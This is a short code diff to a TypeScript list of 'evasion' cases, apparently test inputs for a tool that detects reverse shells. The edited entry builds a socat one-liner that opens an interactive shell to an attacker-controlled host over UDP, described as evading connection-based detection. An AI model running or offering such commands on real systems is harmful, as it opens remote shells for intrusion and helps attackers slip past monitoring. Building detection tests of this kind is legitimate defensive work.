@@ -53,8 +53,7 @@ export const WAYS: readonly Evasion[] = [
   evasion(
     "socat over UDP executes a shell",
     "no connection is ever established",
-    (place) =>
-      `(sleep 0.3; echo) | socat - UDP:${place.attacker}:${place.port} & exec socat UDP:${place.attacker}:${place.port},sourceport=1${place.port} EXEC:'sh -i',pty,stderr`,
+    (place) => `exec socat UDP:${place.attacker}:${place.port} EXEC:'sh -i',pty,stderr`,
     { transport: "udp" },
   ),
   evasion(
